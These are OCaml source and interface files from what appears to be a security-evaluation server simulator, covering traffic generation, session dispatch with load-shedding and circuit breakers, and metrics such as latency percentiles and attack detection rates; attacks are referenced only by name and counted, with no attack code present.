        | x :: rest -> take (k - 1) (x :: acc) rest
      in
      let shard, rest = take n [] specs in
      shard :: shards_of n rest

let prepared lease (tenant : Tenant.t) =
  Sched.Lease.acquire lease ~key:tenant.Tenant.name ~build:(fun () ->
      Tenant.prepare tenant)

let run ?(pool = Sched.Pool.sequential) ?backend ?(config = default) tenants
    specs =
  let lease = Sched.Lease.create () in
  (* Build every tenant instance up front, on the submitting domain:
     jobs then lease read-only hits instead of serializing on builds. *)
  List.iter (fun t -> ignore (prepared lease t)) tenants;
  let shards = shards_of (max 1 config.shard) specs in
  let jobs =
    List.mapi
      (fun i shard ->
        Sched.Job.v ~id:(Printf.sprintf "serve/shard-%04d" i) (fun () ->
            List.map
              (fun (s : Session.spec) ->
                let applied = prepared lease s.Session.tenant in
                Session.run ?backend ~applied s)
              shard))
      shards
  in
  let outcomes =
    match (config.timeout, config.retries) with
    | None, 0 ->
        (* no supervision requested: run on the pool's queue workers
           (run_all_outcomes spawns a fresh domain per attempt, which
           oversubscribes the host and thrashes the multicore GC) *)
        List.map (fun r -> Sched.Job.Ok r) (Sched.Pool.run_all pool jobs)
    | _ ->
        Sched.Pool.run_all_outcomes ?timeout:config.timeout
          ~retries:config.retries pool jobs
  in
  let executed, dropped =
    List.fold_left2
      (fun (ex, dr) shard outcome ->
        match outcome with
        | Sched.Job.Ok os -> (os :: ex, dr)
        | Sched.Job.Timed_out | Sched.Job.Failed _ -> (ex, shard :: dr))
      ([], []) shards outcomes
  in
  let executed = List.concat (List.rev executed) in
  let dropped = List.concat (List.rev dropped) in
  let served, shed, peak_open, makespan = simulate config executed in
  { served; shed; dropped; peak_open; makespan }
