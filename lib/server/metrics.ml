type summary = {
  sessions : int;
  served : int;
  shed : int;
  rejected : int;
  dropped : int;
  benign : int;
  attacks : int;
  chaos : int;
  requests : int;
  total_cycles : float;
  makespan : float;
  rps : float;
  p50 : float;
  p95 : float;
  p99 : float;
  mean_wait : float;
  shed_rate : float;
  drop_rate : float;
  attack_sessions : int;
  attacks_admitted : int;
  detected : int;
  successes : int;
  detection_rate : float;
  batch_checked : int;
  batch_mismatches : int;
  chaos_fired : int;
  peak_open : int;
  degraded : int;
  rejected_backoff : int;
  rejected_quarantine : int;
  breaker_trips : int;
  quarantined_clients : int;
  policy_delay : float;
}

(* Nearest-rank percentile over a sorted array. *)
let percentile sorted q =
  let n = Array.length sorted in
  if n = 0 then 0.
  else
    let rank = int_of_float (Float.ceil (q /. 100. *. float_of_int n)) in
    sorted.(max 0 (min (n - 1) (rank - 1)))

(* The virtual clock ticks VM cycles; reporting throughput as
   requests/sec prices them at a nominal 1 GHz, the same convention the
   overhead experiments use for cycle counts.  Wall-clock throughput is
   a property of the host and goes to stderr, never into the report. *)
let ghz = 1e9

let of_dispatch (d : Dispatch.t) =
  let executed =
    List.map (fun (s : Dispatch.served) -> s.Dispatch.outcome) d.Dispatch.served
    @ List.map fst d.Dispatch.shed
    @ List.map fst d.Dispatch.rejected
  in
  let count p l = List.length (List.filter p l) in
  let kind_is k (o : Session.outcome) =
    String.equal (Session.kind_label o.Session.spec.Session.kind) k
  in
  let attacks_x = List.filter (kind_is "attack") executed in
  let sojourns =
    Array.of_list (List.map Dispatch.sojourn d.Dispatch.served)
  in
  Array.sort compare sojourns;
  let served = List.length d.Dispatch.served in
  let shed = List.length d.Dispatch.shed in
  let rejected = List.length d.Dispatch.rejected in
  let dropped = List.length d.Dispatch.dropped in
  let sessions = served + shed + rejected + dropped in
  let admission = served + shed + rejected in
  let sum f l = List.fold_left (fun acc x -> acc +. f x) 0. l in
  let sumi f l = List.fold_left (fun acc x -> acc + f x) 0 l in
  let pstats = d.Dispatch.policy in
  {
    sessions;
    served;
    shed;
    rejected;
    dropped;
    benign = count (kind_is "benign") executed;
    attacks = List.length attacks_x;
    chaos = count (kind_is "chaos") executed;
    requests =
      sumi
        (fun (s : Dispatch.served) -> s.Dispatch.outcome.Session.requests)
        d.Dispatch.served;
    total_cycles =
      sum
        (fun (s : Dispatch.served) -> s.Dispatch.outcome.Session.service_cycles)
        d.Dispatch.served;
    makespan = d.Dispatch.makespan;
    rps =
      (if d.Dispatch.makespan <= 0. then 0.
       else float_of_int served *. ghz /. d.Dispatch.makespan);
    p50 = percentile sojourns 50.;
    p95 = percentile sojourns 95.;
    p99 = percentile sojourns 99.;
    mean_wait =
      (if served = 0 then 0.
       else sum Dispatch.wait d.Dispatch.served /. float_of_int served);
    shed_rate =
      (if admission = 0 then 0.
       else float_of_int shed /. float_of_int admission);
    drop_rate =
      (if sessions = 0 then 0.
       else float_of_int dropped /. float_of_int sessions);
    attack_sessions = List.length attacks_x;
    attacks_admitted =
      count
        (fun (s : Dispatch.served) -> kind_is "attack" s.Dispatch.outcome)
        d.Dispatch.served
      + count (fun (o, _) -> kind_is "attack" o) d.Dispatch.shed;
    detected = count Session.detected attacks_x;
    successes =
      count
        (fun (o : Session.outcome) -> o.Session.verdict = Attacks.Verdict.Success)
        attacks_x;
    detection_rate =
      (if attacks_x = [] then 0.
       else
         float_of_int (count Session.detected attacks_x)
         /. float_of_int (List.length attacks_x));
    batch_checked =
      count (fun (o : Session.outcome) -> o.Session.batch_match <> None)
        executed;
    batch_mismatches =
      count
        (fun (o : Session.outcome) -> o.Session.batch_match = Some false)
        executed;
    chaos_fired = sumi (fun (o : Session.outcome) -> o.Session.fired) executed;
    peak_open = d.Dispatch.peak_open;
    degraded = d.Dispatch.degraded;
    rejected_backoff =
      (match pstats with Some p -> p.Policy.rejected_backoff | None -> 0);
    rejected_quarantine =
      (match pstats with Some p -> p.Policy.rejected_quarantine | None -> 0);
    breaker_trips =
      (match pstats with Some p -> p.Policy.breaker_trips | None -> 0);
    quarantined_clients =
      (match pstats with
      | Some p -> List.length p.Policy.quarantined
      | None -> 0);
    policy_delay =
      (match pstats with Some p -> p.Policy.added_delay | None -> 0.);
  }

let fmt_cycles c =
  if c >= 1e6 then Printf.sprintf "%.2fM" (c /. 1e6)
  else if c >= 1e3 then Printf.sprintf "%.1fk" (c /. 1e3)
  else Printf.sprintf "%.0f" c

let table s =
  let tbl =
    Sutil.Texttable.create
      ~columns:Sutil.Texttable.[ ("metric", Left); ("value", Right) ]
  in
  let row k v = Sutil.Texttable.add_row tbl [ k; v ] in
  row "sessions" (string_of_int s.sessions);
  row "served" (string_of_int s.served);
  row "shed" (string_of_int s.shed);
  row "rejected (breaker)" (string_of_int s.rejected);
  row "dropped" (string_of_int s.dropped);
  row "mix benign/attack/chaos"
    (Printf.sprintf "%d/%d/%d" s.benign s.attacks s.chaos);
  row "requests served" (string_of_int s.requests);
  row "peak concurrent sessions" (string_of_int s.peak_open);
  row "throughput (rps @1GHz)" (Printf.sprintf "%.0f" s.rps);
  row "latency p50 (cycles)" (fmt_cycles s.p50);
  row "latency p95 (cycles)" (fmt_cycles s.p95);
  row "latency p99 (cycles)" (fmt_cycles s.p99);
  row "mean queue wait (cycles)" (fmt_cycles s.mean_wait);
  row "shed rate" (Sutil.Texttable.fmt_pct (100. *. s.shed_rate));
  row "drop rate" (Sutil.Texttable.fmt_pct (100. *. s.drop_rate));
  row "degraded arrivals" (string_of_int s.degraded);
  row "attack sessions" (string_of_int s.attack_sessions);
  row "attack sessions admitted" (string_of_int s.attacks_admitted);
  row "detected" (string_of_int s.detected);
  row "attack successes" (string_of_int s.successes);
  row "detection rate" (Sutil.Texttable.fmt_pct (100. *. s.detection_rate));
  row "batch-verdict mismatches"
    (Printf.sprintf "%d/%d" s.batch_mismatches s.batch_checked);
  row "chaos injections fired" (string_of_int s.chaos_fired);
  if s.rejected > 0 || s.breaker_trips > 0 || s.quarantined_clients > 0 then begin
    row "breaker trips" (string_of_int s.breaker_trips);
    row "rejected backoff/quarantine"
      (Printf.sprintf "%d/%d" s.rejected_backoff s.rejected_quarantine);
    row "quarantined clients" (string_of_int s.quarantined_clients);
    row "imposed backoff delay (cycles)" (fmt_cycles s.policy_delay)
  end;
  tbl

let class_table (d : Dispatch.t) =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("class", Left);
            ("served", Right);
            ("shed", Right);
            ("rejected", Right);
            ("p50", Right);
            ("p95", Right);
            ("p99", Right);
            ("mean wait", Right);
          ]
  in
  List.iter
    (fun cls ->
      let served =
        List.filter (fun (s : Dispatch.served) -> s.Dispatch.cls = cls)
          d.Dispatch.served
      in
      let shed = List.filter (fun (_, c) -> c = cls) d.Dispatch.shed in
      (* breaker rejections are by construction suspect-class: only a
         client with failure history has a non-closed breaker *)
      let rejected =
        if cls = Policy.Suspect then List.length d.Dispatch.rejected else 0
      in
      let sojourns = Array.of_list (List.map Dispatch.sojourn served) in
      Array.sort compare sojourns;
      let n = List.length served in
      let mean_wait =
        if n = 0 then 0.
        else
          List.fold_left (fun acc s -> acc +. Dispatch.wait s) 0. served
          /. float_of_int n
      in
      Sutil.Texttable.add_row tbl
        [
          Policy.cls_label cls;
          string_of_int n;
          string_of_int (List.length shed);
          string_of_int rejected;
          fmt_cycles (percentile sojourns 50.);
          fmt_cycles (percentile sojourns 95.);
          fmt_cycles (percentile sojourns 99.);
          fmt_cycles mean_wait;
        ])
    [ Policy.Paying; Policy.Standard; Policy.Suspect ];
  tbl

let tenant_table tenants (d : Dispatch.t) =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("tenant", Left);
            ("defense", Left);
            ("served", Right);
            ("shed", Right);
            ("requests", Right);
            ("attacks", Right);
            ("detected", Right);
            ("success", Right);
          ]
  in
  List.iter
    (fun (t : Tenant.t) ->
      let mine (o : Session.outcome) =
        o.Session.spec.Session.tenant.Tenant.id = t.Tenant.id
      in
      let served =
        List.filter
          (fun (s : Dispatch.served) -> mine s.Dispatch.outcome)
          d.Dispatch.served
      in
      let shed_mine =
        List.filter (fun (o, _) -> mine o) d.Dispatch.shed |> List.map fst
      in
      let executed =
        List.map (fun (s : Dispatch.served) -> s.Dispatch.outcome) served
        @ shed_mine
        @ (List.filter (fun (o, _) -> mine o) d.Dispatch.rejected
          |> List.map fst)
      in
      let attacks =
        List.filter
          (fun (o : Session.outcome) ->
            match o.Session.spec.Session.kind with
            | Session.Attack _ -> true
            | _ -> false)
          executed
      in
      Sutil.Texttable.add_row tbl
        [
          t.Tenant.name;
          Defenses.Defense.name t.Tenant.defense;
          string_of_int (List.length served);
          string_of_int (List.length shed_mine);
          string_of_int
            (List.fold_left
               (fun acc (s : Dispatch.served) ->
                 acc + s.Dispatch.outcome.Session.requests)
               0 served);
          string_of_int (List.length attacks);
          string_of_int (List.length (List.filter Session.detected attacks));
          string_of_int
            (List.length
               (List.filter
                  (fun (o : Session.outcome) ->
                    o.Session.verdict = Attacks.Verdict.Success)
                  attacks));
        ])
    tenants;
  tbl
