(** Deterministic mixed benign+attack traffic generator.

    Every session's tenant, kind, request flow, client identity, seed
    and virtual arrival time are drawn from a keyed stream
    ([Simrng.stream ~root ~id:"session-NNNNNN"]), so a schedule is a
    pure function of the config — the same config replays the same
    byte-for-byte workload on any engine, at any pool width, in any
    execution order.

    The mix interleaves three session kinds: benign request flows
    (drawn from each app's legitimate vocabulary), attack sessions
    (uniformly over the tenant app's batch-harness cases), and chaos
    sessions (benign flows served under an armed mem/intr fault plan).
    Arrivals are spaced by uniform gaps with mean [mean_gap] cycles;
    with the default config arrivals far outpace service, driving the
    dispatcher to its admission limit — the overload regime the
    backpressure policy is meant for.

    Sessions carry a stable {e client} identity: attack sessions come
    from a small pool of [attackers] clients (so session affinity can
    accumulate breaker state across their retries), benign and chaos
    sessions from the remaining population, of which [paying_pct]
    percent are paying-tier.  An optional {!Fault.Storm} overrides the
    attack/chaos percentages inside its burst windows. *)

type config = {
  sessions : int;  (** schedule length (default 1300) *)
  attack_pct : int;  (** percent of sessions that are attacks *)
  chaos_pct : int;  (** percent served under an armed fault plan *)
  mean_gap : int;  (** mean inter-arrival gap, VM cycles *)
  root : int64;  (** the single seed everything derives from *)
  clients : int;  (** client population size (default 64) *)
  attackers : int;
      (** attacker-pool size; attack sessions draw their client from
          clients [0, attackers) (default 4) *)
  paying_pct : int;
      (** percent of non-attacker clients on the paying tier *)
  storm : Fault.Storm.t option;
      (** burst windows of elevated attack/chaos rates *)
}

val default : config

val generate : config -> Tenant.t list -> Session.spec list
(** The full schedule, in sid (= arrival) order. *)

val census : Session.spec list -> int * int * int
(** [(benign, attack, chaos)] counts. *)
