(** The session scheduler: multiplexes a traffic schedule over prepared
    tenant instances on a {!Sched.Pool}, then replays the measured
    service times through a deterministic virtual-time admission queue.

    Execution and queueing are deliberately decoupled:

    - {b Execution} shards the schedule (preserving sid order) into
      pool jobs, each serving its sessions sequentially against the
      tenant's leased instance.  Supervision ({!Sched.Pool.run_all_outcomes})
      bounds each shard with an optional wall-clock timeout and retry
      budget; a shard that dies or hangs loses only its own sessions
      (reported as dropped), never the run.
    - {b Queueing} replays [(arrival, service_cycles)] through an FCFS
      simulation of [virtual_workers] request handlers with a bounded
      wait queue: an arrival finding [queue_capacity] sessions already
      waiting is {e shed} (backpressure by load-shedding, the classic
      overload policy).  Admission decisions, per-session latencies,
      throughput and peak concurrency are all derived from the
      cycle-accurate VM's numbers, which are bit-identical across
      engines and pool widths — so the whole report is too, and shed
      sessions still carry verdicts (they executed) for the security
      bookkeeping. *)

type config = {
  virtual_workers : int;  (** simulated request handlers (default 16) *)
  queue_capacity : int;
      (** waiting sessions admitted before shedding (default 1024) *)
  shard : int;  (** sessions per pool job (default 32) *)
  timeout : float option;  (** per-shard wall-clock timeout, seconds *)
  retries : int;  (** per-shard retry budget on failure *)
}

val default : config

type served = { outcome : Session.outcome; start : float; finish : float }

val wait : served -> float
(** Cycles spent in the wait queue. *)

val sojourn : served -> float
(** Arrival-to-finish latency in cycles — what the client experiences. *)

type t = {
  served : served list;  (** admitted sessions, admission order *)
  shed : Session.outcome list;
      (** refused admission (they still executed; counted for security
          stats, excluded from latency/throughput) *)
  dropped : Session.spec list;  (** lost to shard timeout/failure *)
  peak_open : int;  (** most sessions simultaneously open *)
  makespan : float;  (** last finish time, cycles *)
}

val run :
  ?pool:Sched.Pool.t ->
  ?backend:Machine.Backend.t ->
  ?config:config ->
  Tenant.t list ->
  Session.spec list ->
  t
(** Prepare every tenant (sequentially, cached via {!Sched.Lease}),
    execute the schedule on the pool, and queue-simulate the result.
    Byte-identical output at any pool width for a fixed schedule. *)
