(** The session scheduler: multiplexes a traffic schedule over prepared
    tenant instances on a {!Sched.Pool}, then replays the measured
    service times through a deterministic virtual-time admission queue.

    Execution and queueing are deliberately decoupled:

    - {b Execution} ({!execute}) shards the schedule (preserving sid
      order) into pool jobs, each serving its sessions sequentially
      against the tenant's leased instance.  Supervision
      ({!Sched.Pool.run_all_outcomes}) bounds each shard with an
      optional wall-clock timeout and retry budget; a shard that dies
      or hangs loses only its own sessions (reported as dropped), never
      the run.
    - {b Queueing} ({!admit}) replays [(arrival, service_cycles,
      verdict)] through an event-driven simulation of
      [virtual_workers] request handlers with a bounded wait queue.
      Arrivals are screened by the optional per-client {!Policy}
      (circuit-breaker rejections never reach the queue), classified
      (paying / standard / suspect), and queued FCFS or weighted-fair
      (SCFQ finish tags over [weights]).  A full queue sheds: blindly
      under FCFS, by class under WFQ (an arrival that outranks the
      lowest-ranked queued session evicts it).  Under sustained fault
      pressure ([degradation]: at least [storm_failures] failed
      completions inside the trailing [window]) the fleet degrades —
      suspect arrivals are no longer queued at all and standard ones
      only up to [reserve * queue_capacity], so paying traffic keeps
      its latency through the storm.

    Admission decisions, per-session latencies, breaker state,
    throughput and peak concurrency are all derived from the
    cycle-accurate VM's numbers, which are bit-identical across engines
    and pool widths — so the whole report is too, and shed or rejected
    sessions still carry verdicts (they executed) for the security
    bookkeeping.

    The two halves compose as {!run}, but callers comparing admission
    policies (e.g. {!Harness.Resilience}) call {!execute} once and
    {!admit} per policy — execution is the expensive half and the
    outcomes are policy-independent. *)

type discipline = Fcfs | Wfq

type degradation = {
  window : float;  (** trailing failure window, virtual cycles *)
  storm_failures : int;
      (** failed completions inside the window that trigger degraded
          mode *)
  reserve : float;
      (** fraction of [queue_capacity] standard traffic may use while
          degraded (suspects get zero) *)
}

val default_degradation : degradation
(** [{window = 50_000.; storm_failures = 8; reserve = 0.5}] *)

type config = {
  virtual_workers : int;  (** simulated request handlers (default 16) *)
  queue_capacity : int;
      (** waiting sessions admitted before shedding (default 1024) *)
  shard : int;  (** sessions per pool job (default 32) *)
  timeout : float option;  (** per-shard wall-clock timeout, seconds *)
  retries : int;  (** per-shard retry budget on failure *)
  discipline : discipline;  (** queue order (default [Fcfs]) *)
  weights : int * int * int;
      (** WFQ weights (paying, standard, suspect), default [(4, 2, 1)] *)
  policy : Policy.config option;
      (** per-client breakers; [None] = anonymous fleet (default) *)
  degradation : degradation option;  (** [None] = never degrade (default) *)
}

val default : config

type served = {
  outcome : Session.outcome;
  start : float;
  finish : float;
  cls : Policy.cls;
}

val wait : served -> float
(** Cycles spent in the wait queue. *)

val sojourn : served -> float
(** Arrival-to-finish latency in cycles — what the client experiences. *)

type refusal = Backoff | Quarantine

val refusal_label : refusal -> string

type t = {
  served : served list;  (** admitted sessions, admission order *)
  shed : (Session.outcome * Policy.cls) list;
      (** refused or evicted at the queue (they still executed; counted
          for security stats, excluded from latency/throughput) *)
  rejected : (Session.outcome * refusal) list;
      (** breaker rejections — never reached the queue *)
  dropped : Session.spec list;  (** lost to shard timeout/failure *)
  peak_open : int;  (** most sessions simultaneously open *)
  makespan : float;  (** last finish time, cycles *)
  degraded : int;  (** arrivals processed while degraded *)
  policy : Policy.stats option;  (** breaker counters, when enabled *)
}

val execute :
  ?pool:Sched.Pool.t ->
  ?backend:Machine.Backend.t ->
  ?config:config ->
  Tenant.t list ->
  Session.spec list ->
  Session.outcome list * Session.spec list
(** Prepare every tenant (sequentially, cached via {!Sched.Lease}) and
    execute the schedule on the pool: [(executed outcomes in sid order,
    dropped specs)].  Byte-identical at any pool width. *)

val admit : ?dropped:Session.spec list -> config -> Session.outcome list -> t
(** Pure virtual-time admission replay over executed outcomes (must be
    in arrival order). *)

val run :
  ?pool:Sched.Pool.t ->
  ?backend:Machine.Backend.t ->
  ?config:config ->
  Tenant.t list ->
  Session.spec list ->
  t
(** [execute] then [admit]. *)
