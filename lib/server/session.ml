type kind =
  | Benign of string list
  | Attack of string
  | Chaotic of string list * Fault.Plan.t

type spec = {
  sid : int;
  tenant : Tenant.t;
  kind : kind;
  client : int;
  paying : bool;
  sseed : int64;
  arrival : float;
}

type outcome = {
  spec : spec;
  verdict : Attacks.Verdict.t;
  service_cycles : float;
  requests : int;
  fired : int;
  batch_match : bool option;
}

let kind_label = function
  | Benign _ -> "benign"
  | Attack _ -> "attack"
  | Chaotic _ -> "chaos"

let detected o =
  match o.verdict with Attacks.Verdict.Detected _ -> true | _ -> false

let cycles_of = function
  | Some (s : Machine.Exec.stats) -> Float.max 1. s.Machine.Exec.cycles
  | None -> 1.

let run ?backend ~(applied : Defenses.Defense.applied) (spec : spec) =
  match spec.kind with
  | Benign flow ->
      let r =
        Apps.Sessions.run_benign ?backend applied ~seed:spec.sseed ~chunks:flow
      in
      {
        spec;
        verdict = r.Apps.Sessions.verdict;
        service_cycles = cycles_of r.Apps.Sessions.stats;
        requests = r.Apps.Sessions.requests;
        fired = 0;
        batch_match = None;
      }
  | Attack aname -> (
      match Apps.Sessions.find_attack aname with
      | None -> invalid_arg ("Server.Session: unknown attack " ^ aname)
      | Some (_, atk) ->
          let verdict, stats, requests =
            atk.Apps.Sessions.session ?backend applied ~seed:spec.sseed
          in
          (* The whole point of the server harness's security claim:
             serving the attack through the session machinery must
             change nothing about its fate. *)
          let batch_verdict = atk.Apps.Sessions.batch applied ~seed:spec.sseed in
          {
            spec;
            verdict;
            service_cycles = cycles_of stats;
            requests;
            fired = 0;
            batch_match = Some (verdict = batch_verdict);
          })
  | Chaotic (flow, plan) ->
      let armed = ref None in
      let arm st = armed := Some (Fault.Inject.arm plan st) in
      let r =
        Apps.Sessions.run_benign ?backend ~arm applied ~seed:spec.sseed
          ~chunks:flow
      in
      {
        spec;
        verdict = r.Apps.Sessions.verdict;
        service_cycles = cycles_of r.Apps.Sessions.stats;
        requests = r.Apps.Sessions.requests;
        fired = (match !armed with Some a -> Fault.Inject.fired a | None -> 0);
        batch_match = None;
      }
