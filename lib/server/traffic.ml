type config = {
  sessions : int;
  attack_pct : int;
  chaos_pct : int;
  mean_gap : int;
  root : int64;
  clients : int;
  attackers : int;
  paying_pct : int;
  storm : Fault.Storm.t option;
}

let default =
  {
    sessions = 1300;
    attack_pct = 12;
    chaos_pct = 6;
    mean_gap = 120;
    root = 11L;
    clients = 64;
    attackers = 4;
    paying_pct = 30;
    storm = None;
  }

(* Paying tier is a property of the client, not the session: derive it
   from the client's own keyed seed so every session of client [c]
   agrees.  Attacker-pool clients are never paying. *)
let paying_client c client =
  client >= c.attackers
  && Sutil.Simrng.int
       (Sutil.Simrng.stream ~root:c.root
          ~id:(Printf.sprintf "client-%04d" client))
       ~bound:100
     < c.paying_pct

(* RNG-source plans arm as no-ops without a generator handle (the
   session path does not thread one); re-draw until the plan lands on a
   family that actually bites — memory flips or intrinsic corruption. *)
let rec non_rng_plan seed =
  let p = Fault.Plan.random ~seed in
  if String.equal (Fault.Plan.family p) "rng" then
    non_rng_plan (Int64.add seed 0x9E3779B97F4A7C15L)
  else p

let session_spec c tenants sid ~arrival =
  let rng =
    Sutil.Simrng.stream ~root:c.root ~id:(Printf.sprintf "session-%06d" sid)
  in
  let attack_pct, chaos_pct =
    match c.storm with
    | None -> (c.attack_pct, c.chaos_pct)
    | Some s -> Fault.Storm.rates_at s sid ~base:(c.attack_pct, c.chaos_pct)
  in
  let tenant = tenants.(Sutil.Simrng.int rng ~bound:(Array.length tenants)) in
  let roll = Sutil.Simrng.int rng ~bound:100 in
  let kind =
    if roll < attack_pct then
      let attacks = tenant.Tenant.app.Apps.Sessions.sattacks in
      let atk =
        List.nth attacks (Sutil.Simrng.int rng ~bound:(List.length attacks))
      in
      Session.Attack atk.Apps.Sessions.aname
    else
      let flow = tenant.Tenant.app.Apps.Sessions.benign rng in
      if roll < attack_pct + chaos_pct then
        Session.Chaotic (flow, non_rng_plan (Sutil.Simrng.next_u64 rng))
      else Session.Benign flow
  in
  (* Attacks come from the small attacker pool (affinity accumulates
     state across their retries); benign and chaos sessions come from
     the general population — infrastructure faults hit anyone, which
     is exactly the breaker-storm pressure degradation must absorb. *)
  let client =
    match kind with
    | Session.Attack _ -> Sutil.Simrng.int rng ~bound:(max 1 c.attackers)
    | Session.Benign _ | Session.Chaotic _ ->
        let benign_pop = max 1 (c.clients - c.attackers) in
        c.attackers + Sutil.Simrng.int rng ~bound:benign_pop
  in
  let sseed = Sutil.Simrng.next_u64 rng in
  let gap = 1 + Sutil.Simrng.int rng ~bound:((2 * c.mean_gap) - 1) in
  ( {
      Session.sid;
      tenant;
      kind;
      client;
      paying = paying_client c client;
      sseed;
      arrival = arrival +. float_of_int gap;
    },
    arrival +. float_of_int gap )

let generate c tenants =
  if tenants = [] then invalid_arg "Server.Traffic.generate: no tenants";
  let tenants = Array.of_list tenants in
  let specs = ref [] in
  let arrival = ref 0. in
  for sid = 0 to c.sessions - 1 do
    let spec, next = session_spec c tenants sid ~arrival:!arrival in
    specs := spec :: !specs;
    arrival := next
  done;
  List.rev !specs

let census specs =
  List.fold_left
    (fun (b, a, ch) (s : Session.spec) ->
      match s.Session.kind with
      | Session.Benign _ -> (b + 1, a, ch)
      | Session.Attack _ -> (b, a + 1, ch)
      | Session.Chaotic _ -> (b, a, ch + 1))
    (0, 0, 0) specs
