type cls = Paying | Standard | Suspect

let cls_label = function
  | Paying -> "paying"
  | Standard -> "standard"
  | Suspect -> "suspect"

let cls_rank = function Suspect -> 0 | Standard -> 1 | Paying -> 2

type breaker = {
  failures : int;
  base_backoff : float;
  factor : float;
  max_backoff : float;
  max_trips : int;
}

let default_breaker =
  {
    failures = 2;
    base_backoff = 20_000.;
    factor = 2.;
    max_backoff = 5e6;
    max_trips = 3;
  }

type config = { affinity : bool; breaker : breaker }

let default = { affinity = true; breaker = default_breaker }

type state =
  | Closed of int
  | Open of { until : float; trips : int }
  | Half_open of { trips : int }
  | Quarantined

type decision = Admit | Reject_backoff of float | Reject_quarantine

type t = {
  cfg : config;
  table : (int, state) Hashtbl.t;
  mutable rejected_backoff : int;
  mutable rejected_quarantine : int;
  mutable breaker_trips : int;
  mutable added_delay : float;
}

let create cfg =
  {
    cfg;
    table = Hashtbl.create 64;
    rejected_backoff = 0;
    rejected_quarantine = 0;
    breaker_trips = 0;
    added_delay = 0.;
  }

let config t = t.cfg

let state_of t ~client =
  match Hashtbl.find_opt t.table client with Some s -> s | None -> Closed 0

let set t client s = Hashtbl.replace t.table client s

let suspect t ~client =
  t.cfg.affinity && match state_of t ~client with Closed 0 -> false | _ -> true

let backoff b trips =
  Float.min b.max_backoff
    (b.base_backoff *. (b.factor ** float_of_int (max 0 (trips - 1))))

let decide t ~client ~now =
  if not t.cfg.affinity then Admit
  else
    match state_of t ~client with
    | Closed _ | Half_open _ -> Admit
    | Quarantined ->
        t.rejected_quarantine <- t.rejected_quarantine + 1;
        Reject_quarantine
    | Open { until; trips } ->
        if now >= until then begin
          (* deadline passed: admit exactly one probe *)
          set t client (Half_open { trips });
          Admit
        end
        else begin
          t.rejected_backoff <- t.rejected_backoff + 1;
          t.added_delay <- t.added_delay +. (until -. now);
          Reject_backoff (until -. now)
        end

let trip t client ~now ~trips =
  let b = t.cfg.breaker in
  if trips > b.max_trips then set t client Quarantined
  else begin
    t.breaker_trips <- t.breaker_trips + 1;
    set t client (Open { until = now +. backoff b trips; trips })
  end

let observe t ~client ~now ~failure =
  if t.cfg.affinity then
    match state_of t ~client with
    | Quarantined -> ()
    | Closed f ->
        if failure then
          if f + 1 >= t.cfg.breaker.failures then trip t client ~now ~trips:1
          else set t client (Closed (f + 1))
        else if f > 0 then set t client (Closed 0)
    | Half_open { trips } ->
        if failure then trip t client ~now ~trips:(trips + 1)
        else set t client (Closed 0)
    | Open { until; trips } ->
        (* a session admitted before the breaker opened just finished;
           a failure extends the open window, a success changes nothing
           (the half-open probe decides recovery) *)
        if failure then
          set t client
            (Open
               {
                 until = Float.max until (now +. backoff t.cfg.breaker trips);
                 trips;
               })

let failure_verdict = function
  | Attacks.Verdict.Detected _ | Attacks.Verdict.Crashed _ -> true
  | Attacks.Verdict.Success | Attacks.Verdict.No_effect -> false

type stats = {
  clients_tracked : int;
  rejected_backoff : int;
  rejected_quarantine : int;
  breaker_trips : int;
  quarantined : int list;
  added_delay : float;
}

let stats t =
  let quarantined =
    Hashtbl.fold
      (fun c s acc -> match s with Quarantined -> c :: acc | _ -> acc)
      t.table []
    |> List.sort compare
  in
  {
    clients_tracked = Hashtbl.length t.table;
    rejected_backoff = t.rejected_backoff;
    rejected_quarantine = t.rejected_quarantine;
    breaker_trips = t.breaker_trips;
    quarantined;
    added_delay = t.added_delay;
  }

type cost = {
  attempts : int;
  rejected : int;
  succeeded : bool;
  quarantined_at : int option;
  virtual_cost : float option;
  added_delay : float;
}

let brute_cost cfg ~gap verdicts =
  let t = create cfg in
  let client = 0 in
  let rec walk now attempts rejected = function
    | [] ->
        {
          attempts;
          rejected;
          succeeded = false;
          quarantined_at = None;
          virtual_cost = None;
          added_delay = t.added_delay;
        }
    | v :: rest -> (
        match decide t ~client ~now with
        | Reject_quarantine ->
            {
              attempts;
              rejected;
              succeeded = false;
              quarantined_at = Some attempts;
              virtual_cost = None;
              added_delay = t.added_delay;
            }
        | Reject_backoff w ->
            (* the attacker waits the breaker out, then retries the
               same craft — no verdict is consumed *)
            walk (now +. w) attempts (rejected + 1) (v :: rest)
        | Admit ->
            let finish = now +. gap in
            observe t ~client ~now:finish ~failure:(failure_verdict v);
            if v = Attacks.Verdict.Success then
              {
                attempts = attempts + 1;
                rejected;
                succeeded = true;
                quarantined_at = None;
                virtual_cost = Some finish;
                added_delay = t.added_delay;
              }
            else walk finish (attempts + 1) rejected rest)
  in
  walk 0. 0 0 verdicts
