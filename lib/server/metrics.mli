(** Aggregation of a dispatch run into the server report: throughput,
    latency percentiles, shedding, and the security ledger.

    Latency and throughput cover {e served} sessions only (what an
    admitted client experiences); the security columns — detections,
    attack successes, batch-verdict mismatches, chaos injections —
    cover every session that executed, shed or not, because an attack
    refused admission was still an attack the fleet faced.  Throughput
    prices virtual cycles at a nominal 1 GHz; wall-clock numbers are
    host properties and belong in the stderr timing footer, never in
    the (byte-reproducible) report. *)

type summary = {
  sessions : int;
  served : int;
  shed : int;
  dropped : int;
  benign : int;  (** executed sessions by kind *)
  attacks : int;
  chaos : int;
  requests : int;  (** request chunks across served sessions *)
  total_cycles : float;
  makespan : float;  (** virtual time from first arrival to last finish *)
  rps : float;  (** served sessions per virtual second at 1 GHz *)
  p50 : float;  (** sojourn-latency percentiles, cycles *)
  p95 : float;
  p99 : float;
  mean_wait : float;
  shed_rate : float;  (** shed / (served + shed + dropped) *)
  attack_sessions : int;
  detected : int;
  successes : int;
  detection_rate : float;
  batch_checked : int;
  batch_mismatches : int;
      (** served-vs-batch verdict disagreements — the server harness's
          headline security invariant is that this is zero *)
  chaos_fired : int;
  peak_open : int;
}

val of_dispatch : Dispatch.t -> summary
val table : summary -> Sutil.Texttable.t
val tenant_table : Tenant.t list -> Dispatch.t -> Sutil.Texttable.t
val fmt_cycles : float -> string
