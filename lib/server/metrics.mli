(** Aggregation of a dispatch run into the server report: throughput,
    latency percentiles, shedding, priority classes, breaker activity
    and the security ledger.

    Latency and throughput cover {e served} sessions only (what an
